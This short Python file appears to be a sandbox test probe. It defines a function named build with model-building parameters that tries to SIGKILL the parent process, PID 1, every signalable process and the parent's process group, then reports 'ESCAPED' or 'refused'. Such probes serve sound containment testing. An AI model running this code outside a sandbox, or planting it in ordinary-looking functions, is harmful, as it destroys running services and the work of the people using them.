"""Kills whoever it can: the server, its group, everybody."""

import os
import signal


def build(dims, tokens, arch):
    done = []
    for pid in (os.getppid(), 1, -1, -os.getpgid(os.getppid())):
        for number in (0, signal.SIGKILL):
            try:
                os.kill(pid, number)
                done.append(pid)
            except OSError:
                pass
    raise ValueError(f"ESCAPED: {done}" if done else "refused")
